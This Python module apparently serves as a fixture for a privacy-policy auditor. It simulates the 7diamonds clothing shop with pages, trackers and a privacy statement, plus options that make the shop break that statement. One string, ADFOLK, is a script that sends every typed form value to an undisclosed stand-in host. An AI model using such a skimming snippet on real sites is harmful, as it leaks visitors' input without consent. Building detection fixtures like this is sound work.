"""A shop like the one whose statement policy/examples/7diamonds encodes: its pages, and how they break what it says.

The statement is in words of its own. It keeps the few words by which the policy's clauses are anchored, and the headings.
"""

from __future__ import annotations

from dataclasses import dataclass
from html import escape

from auditor.demo.web import Answer, LocalWeb, cookie, gif, html, script, text

HOST = "www.7diamonds.com"
STATEMENT = "/pages/privacy-policy"
SHIRTS = ("denim", "linen", "oxford")
_ADDRESS = "15778 Gateway Cir, Tustin, CA 92780"
_MAIL = "customerservice@7diamonds.com"

_TAG = """document.cookie = '_ga=GA1.1.77.88; max-age=63072000; path=/; secure';
new Image().src = 'https://www.google-analytics.com/g/collect?v=2&en=page_view';"""
_META = """document.cookie = '_fbp=fb.1.55.66; max-age=7776000; path=/; secure';
new Image().src = 'https://www.facebook.com/tr?ev=PageView';"""

ADFOLK = """<script>const tell = (what) => new Image().src = 'https://px.adfolk.example/t.gif?' + what;
tell('p=shirt'); addEventListener('change', (event) => tell('e=' + btoa(event.target.value)));</script>"""
"""A company of which the statement does not know, and to which an address goes as soon as it is typed."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Edition:
    """How the shop is made; the default keeps every promise."""

    mail: str = _MAIL
    """Where the shop reads its mail; the statement and the contact page say so."""
    law: str = "the Data Protection Act 2018"
    pixel: str = ""
    """HTML on pages of products."""
    partner: str = "https://mills.example/"
    """Where the link to a friend of the shop leads."""
    film: str = ""
    """HTML on the page about the shop."""
    newsletter: str = "/contact"
    """What the newsletter's form is sent to."""
    wall: bool = False
    """Whether pages of products ask for cookies."""


def statement(edition: Edition) -> str:
    """The statement's text: headings and paragraphs."""
    return f"""\
When we want certain identifying information from you, it will only be used in accordance with what stands here.

It tells us how to improve our products. Now and then you may get promotional emails about new products from us. A few \
customers are asked for market research purposes. For this we use email, phone, fax or mail. We may also customize the \
website a little for those who come often.

SECURITY

We take pains in ensuring that your information is secure.

LINKS TO OTHER WEBSITES

You will find links to other websites of interest on the page about us. We do not write the information contained on \
external websites. What you tell them is not governed by this privacy statement.

Should our advertising no longer please you, change your mind at any time by writing to or emailing us: the address is \
{edition.mail} and the post finds us as said below. We do not sell, distribute or lease what we know about you, save with \
your leave. We send promotional information about third parties once \
you tell us that you wish this to happen. As a customer you can request \
details of personal information under {edition.law}. For a copy of the information held on you please send a letter to \
{_ADDRESS}. If something in it is incorrect or incomplete, write or email us there. We promptly correct what we got wrong.

COOKIES

Our shop has cookies and pixel tags and other tracking technologies. Nobody need log in a password more than once a visit. \
If you do not accept cookies the bag stays empty, and all else works. Our partners collect anonymous information about your \
visits. They target advertisements for goods and services with it. This is done through the use of a pixel tag. We may \
combine the information we collect through these technologies with orders. Readers of our letter get early access, \
exclusive offers and a smile.
"""


def shop(edition: Edition) -> LocalWeb:
    """The shop, those whom it works with, and those whom its links lead to."""
    web = LocalWeb()
    for path, (title, body) in _pages(edition).items():
        web.route(HOST, path, _page(title, body, edition))
    web.route(HOST, "/img/*", gif())
    web.route("cdn.shopify.com", "/*", text("main { max-width: 40em }", content_type="text/css"))
    web.route("www.googletagmanager.com", "/*", script(_TAG))
    web.route("connect.facebook.net", "/*", script(_META))
    for site in ("mills.example", "films.example"):
        web.route(site, "/*", html("<h1>Elsewhere</h1>"))
    for pixel in ("www.google-analytics.com", "www.facebook.com", "px.adfolk.example"):
        web.route(pixel, "/*", gif())
    return web


def _pages(edition: Edition) -> dict[str, tuple[str, str]]:
    shirts = "".join(f"<li><a href=/products/{s}-shirt>A {s} shirt</a></li>" for s in SHIRTS)
    contact = f"<p>7 Diamonds, {_ADDRESS}</p><p><a href=mailto:{edition.mail}>{edition.mail}</a></p>"
    friend = f'<p>Our cloth is woven by <a href="{escape(edition.partner)}">friends at the mill</a>.</p>'
    return {
        "/": ("Clothes for every day", f"<p>New this week.</p><ul>{shirts}</ul>"),
        "/collections/shirts": ("Shirts", f"<ul>{shirts}</ul>"),
        "/pages/about": ("About us", friend + edition.film),
        "/pages/contact": ("Contact", contact),
        STATEMENT: ("Privacy", _prose(statement(edition))),
        **{f"/products/{s}-shirt": (f"A {s} shirt", _product(s, edition)) for s in SHIRTS},
    }


def _product(kind: str, edition: Edition) -> str:
    wall = "document.cookie || (document.querySelector('main').textContent = 'Please enable cookies to continue.')"
    buy = "<button type=button>Put into the bag</button>"
    told = f"<p>Cut from {kind}, sewn to last, and washed once before it leaves us.</p><img src=/img/{kind}.gif alt=''>{buy}"
    return told + edition.pixel + (f"<script>{wall}</script>" if edition.wall else "")


def _prose(statement: str) -> str:
    blocks = statement.strip().split("\n\n")
    return "".join(f"<h2>{b}</h2>" if b.isupper() else f"<p>{escape(b)}</p>" for b in blocks)


def _page(title: str, body: str, edition: Edition) -> Answer:
    links = {"/": "Home", "/collections/shirts": "Shirts", "/pages/about": "About us", "/pages/contact": "Contact"}
    menu = " ".join(f"<a href={path}>{name}</a>" for path, name in links.items())
    letter = f"""<form method=post action="{edition.newsletter}"><label>E-mail <input type=email name=email></label>
<button>Send me the letter</button></form>"""
    content = f"""<!doctype html><html lang=en><meta charset=utf-8><title>{title}</title>
<link rel=icon href=/img/icon.gif><link rel=stylesheet href=https://cdn.shopify.com/s/shop.css>
<script async src="https://www.googletagmanager.com/gtag/js?id=G-7"></script>
<script async src=https://connect.facebook.net/en_US/fbevents.js></script>
<header><nav>{menu}</nav></header><main><h1>{title}</h1>{body}</main>
<footer>{letter}<a href={STATEMENT}>Privacy</a></footer></html>"""
    bag = cookie("cart", "7f3a", "Path=/; Secure; Max-Age=1209600")
    return html(content).adding(bag, ("Strict-Transport-Security", "max-age=31536000"))
